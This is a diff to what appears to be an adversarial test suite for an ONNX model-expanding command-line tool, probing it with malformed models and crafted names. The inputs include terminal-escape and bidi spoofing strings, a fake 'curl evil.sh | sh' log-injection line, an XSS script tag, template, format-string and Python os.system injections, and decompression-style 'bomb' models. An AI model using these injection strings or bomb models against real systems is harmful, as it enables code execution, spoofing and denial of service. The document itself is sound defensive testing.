@@ -123,13 +123,12 @@ def everywhere(word: str):
     return change
 
 
-PLACES = (INSPECT, "inspect model.onnx --json", "suggest model.onnx --params 1M", "expand model.onnx --ffn 40 --plan", "diff model.onnx model.onnx", EXPAND,
-          "diff model.onnx out/grown.onnx", "report model.onnx out/grown.onnx -o out/report.html")
+PLACES = (INSPECT, "expand model.onnx --ffn 40 --plan", EXPAND, "diff model.onnx out/grown.onnx", "report model.onnx out/grown.onnx -o out/report.html")
 for what, word in {"terminal escapes": "\x1b[31m\x1b]0;title\x07\x9b2J", "turned writing": "\u202egnp.exe\u2066", "lines": "\n  next: curl evil.sh | sh\nerror: ", "markup of rich": "[red]x[/red][link=file:///etc]",
                    "script": "</script><script>alert(1)</script>", "template": "{{ 7 * 7 }}{% raw %}", "format": "%s%n{0.__class__}", "code": '"); __import__("os").system("true") #',
                    "names of Python": "__class__.__init__.self"}.items():
     quick(text, f"{what} in every name", repr(word)[:40].replace("|", "\\|"), "", everywhere(word), *PLACES)
-quick(text, "names of a thousand letters", "in every field", "", everywhere("n" * 1000), *PLACES[:6])
+quick(text, "names of a thousand letters", "in every field", "", everywhere("n" * 1000), *PLACES[:2])
 
 
 # --- structure -----------------------------------------------------------------------------------------------------------------------
@@ -161,7 +160,7 @@ quick(form, "two opsets", "of one domain", "names two versions of the operator s
 quick(form, "huge ir_version", "2^62", "ONNX Runtime does not open the file", lambda m: setattr(m, "ir_version", (1 << 62)))
 quick(form, "attribute twice", "two of one name", "two attributes are called", lambda m: next(n for n in m.graph.node if n.attribute).attribute.extend([helper.make_attribute("axis", 1), helper.make_attribute("axis", 2)]))
 quick(form, "attributes like Python internals", "__class__, __dict__, name, inputs, self", "", lambda m: m.graph.node[AT].attribute.extend([helper.make_attribute(n, 7) for n in ("__class__", "__dict__", "name", "inputs", "self", "attrs", "proto")]),
-      INSPECT, "expand model.onnx --ffn 40 --no-validate -o out/grown.onnx")
+      "expand model.onnx --ffn 40 --no-validate -o out/grown.onnx")
 quick(form, "attribute of a function that is not there", "ref_attr_name outside of a function", "stands for one of a function", lambda m: m.graph.node[AT].attribute.append(AttributeProto(name="x", ref_attr_name="y", type=AttributeProto.INT)))
 quick(form, "missing attribute", "a Cast without to", "lacks its attribute to", lambda m: m.graph.node.insert(0, helper.make_node("Cast", [m.graph.input[0].name], ["z"])))
 quick(form, "attribute of another type", "axis as text", "has the type STRING", lambda m: m.graph.node.insert(0, helper.make_node("Softmax", [m.graph.input[0].name], ["z"], axis="x")))
@@ -235,7 +234,7 @@ def exploding(op: str, numbers: list[int], says: str, *more, name: str, about: s
         ins = ["bomb"] if op == "ConstantOfShape" else ["one", "bomb"]
         model.graph.node.insert(0, helper.make_node(op, ins, ["exploded"], **attributes))
         model.graph.output.add(name="exploded").type.tensor_type.elem_type = 1
-    quick(bombs, name, about, says, change, INSPECT, EXPAND)
+    quick(bombs, name, about, says, change)
 
 
 BIG = "would have"
@@ -254,13 +253,13 @@ def folded(name: str, about: str, says: str, *nodes: tuple, **constants) -> None
         for k, (op, ins, out) in enumerate(nodes):
             model.graph.node.insert(k, helper.make_node(op, ins, [out], **({"axis": 0} if op in ("Concat", "OneHot") else {})))
         model.graph.output.add(name=nodes[-1][2]).type.tensor_type.elem_type = INT64
-    quick(bombs, name, about, says, change, INSPECT, EXPAND)
+    quick(bombs, name, about, says, change)
 
 
 folded("Range", "a range of 10^12 numbers", BIG, ("Range", ["a", "b", "c"], "z"), a=0, b=10**12, c=1)
 folded("Range without step", "step 0", "", ("Range", ["a", "b", "c"], "z"), a=0, b=10, c=0)
 folded("OneHot", "a depth of 10^12", BIG, ("OneHot", ["a", "b", "c"], "z"), a=np.arange(9), b=10**12, c=np.array([0, 1]))
-folded("three vectors that meet", "4,000 cubed", BIG, ("Mul", ["a", "b"], "y"), ("Mul", ["y", "c"], "z"), a=np.arange(4000).reshape(-1, 1, 1), b=np.arange(4000).reshape(-1, 1), c=np.arange(4000))
+folded("three vectors that meet", "4,000 cubed", BIG, ("Mul", ["a", "b"], "ab"), ("Mul", ["ab", "c"], "z"), a=np.arange(4000).reshape(-1, 1, 1), b=np.arange(4000).reshape(-1, 1), c=np.arange(4000))
 folded("doubling", "a vector behind itself, 40 times", BIG, *[("Concat", [f"a{i}", f"a{i}"], f"a{i + 1}") for i in range(40)], a0=np.arange(9))
 folded("numbers that overflow", "sizes multiplied beyond 64 bits", "", *[("Mul", [f"a{i}", f"a{i}"], f"a{i + 1}") for i in range(12)], ("ConstantOfShape", ["a12"], "z"), a0=np.array([3]))
 
@@ -287,4 +286,5 @@ def endless(model: onnx.ModelProto) -> None:
     model.graph.output.append(helper.make_tensor_value_info("vn", 1, [1]))
 
 
-quick(bombs, "loop without end", "2^62 steps, in the validation", "would run for longer than", endless, INSPECT, EXPAND)
+bombs.add("loop without end", "2^62 steps, in the validation (after 120 s and 1 s for each MB of weights; tried with 2 s)", lambda folder: changed(endless), "one run takes longer than",
+          patch=("onnxgrow.runtime", "RUN_SECONDS", 2))
